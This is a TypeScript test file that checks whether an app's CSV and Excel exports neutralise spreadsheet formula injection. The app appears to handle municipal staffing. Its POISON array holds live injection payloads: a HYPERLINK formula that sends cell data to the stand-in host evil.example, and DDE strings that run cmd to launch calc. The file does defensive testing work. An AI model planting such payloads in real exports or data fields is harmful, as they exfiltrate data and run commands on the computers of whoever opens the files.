import ExcelJS from "exceljs";
import { expect, it } from "vitest";
import { parseCsv, toCsv } from "../../src/io/csv.js";
import { looksLikeFormula, spreadsheetCell } from "../../src/io/spreadsheet-cell.js";
import { describeEachDatabase, type TestDatabase } from "../support/databases.js";
import { demoSite } from "../support/demo-site.js";

const POISON = ['=HYPERLINK("http://evil.example/?"&A1,"企画部")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];

it("formula injection: text starting with = + - @ tab CR gets an apostrophe; numbers and number-like text stay", () => {
  for (const p of POISON) expect(spreadsheetCell(p)).toBe(`'${p}`);
  expect(spreadsheetCell(-12)).toBe(-12);
  expect(spreadsheetCell("-12")).toBe("-12");
  expect(spreadsheetCell("+3.5")).toBe("+3.5");
  expect(spreadsheetCell("-")).toBe("-");
  expect(spreadsheetCell(null)).toBe(null);
  expect(spreadsheetCell("企画部=1")).toBe("企画部=1");
  expect(parseCsv(toCsv([["=1+1", 5, "-3"]]))).toEqual([["'=1+1", "5", "-3"]]);
});

/** Every cell of every sheet of an xlsx: strings that Excel could read as formulas, and whether any number cell exists. */
async function xlsxCells(bytes: ArrayBuffer): Promise<{ formulas: string[]; numbers: number; texts: string[] }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes);
  const out = { formulas: [] as string[], numbers: 0, texts: [] as string[] };
  workbook.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const v = cell.value;
        if (typeof v === "number") out.numbers++;
        else if (typeof v === "string") {
          out.texts.push(v);
          if (looksLikeFormula(v)) out.formulas.push(v);
        } else if (v !== null && typeof v === "object" && "formula" in v) out.formulas.push(String(v.formula));
      }),
    ),
  );
  return out;
}

/** The export carried one of the poisoned texts (so the check above saw it). */
const poisoned = (text: string): boolean => POISON.some((p) => text.includes(p.slice(0, 12)));

function csvCells(bytes: ArrayBuffer): string[] {
  return parseCsv(new TextDecoder().decode(bytes)).flat();
}

describeEachDatabase("every export neutralises formula text (CSV/xlsx injection)", (get: () => TestDatabase) => {
  it("headcounts, age profiles, projection, nationwide diagnosis and reform editions: no cell is a formula, numbers stay numbers", async () => {
    const site = await demoSite(get);
    const { db, municipality } = site;
    for (const unit of await site.tenant.units.list()) {
      await db.updateTable("org_units").set({ name: `${POISON[0]}${unit.code}` }).where("id", "=", unit.id).execute();
    }
    await db.updateTable("reform_items").set({ name: POISON[3] ?? "" }).where("municipality_id", "=", municipality.id).execute();
    await db.updateTable("comparison_roster").set({ name: POISON[1] ?? "" }).where("municipality_id", "=", municipality.id).execute();
    const edition = await db.selectFrom("reform_editions").select("fiscal_year").where("municipality_id", "=", municipality.id).orderBy("fiscal_year", "desc").executeTakeFirstOrThrow();
    const profiled = await db.selectFrom("age_profiles").select("unit_id").where("municipality_id", "=", municipality.id).executeTakeFirstOrThrow();
    const admin = await site.client("admin");

    const xlsxPaths = [
      "/staffing/headcounts.xlsx?from=2020&to=2025",
      "/staffing/headcounts.xlsx?from=2020&to=2025&layout=long",
      "/staffing/age-profile.xlsx",
      `/staffing/projection.xlsx?scope=${profiled.unit_id}`,
      "/comparison/nationwide.xlsx",
      `/reform/editions/${edition.fiscal_year}.xlsx`,
    ];
    for (const path of xlsxPaths) {
      const response = await admin.get(path);
      expect(response.status, path).toBe(200);
      const cells = await xlsxCells(await response.arrayBuffer());
      expect(cells.formulas, path).toEqual([]);
      expect(cells.texts.some(poisoned), path).toBe(true);
      if (!path.startsWith("/reform/")) expect(cells.numbers, path).toBeGreaterThan(0);
    }
    const csvPaths = [
      "/staffing/headcounts.csv?from=2020&to=2025",
      "/staffing/headcounts.csv?from=2020&to=2025&layout=long",
      "/staffing/age-profile.csv",
      "/comparison/nationwide.csv",
      `/reform/editions/${edition.fiscal_year}.csv`,
    ];
    for (const path of csvPaths) {
      const response = await admin.get(path);
      expect(response.status, path).toBe(200);
      const cells = csvCells(await response.arrayBuffer());
      expect(cells.filter(looksLikeFormula), path).toEqual([]);
      expect(cells.some(poisoned), path).toBe(true);
    }
  });
});
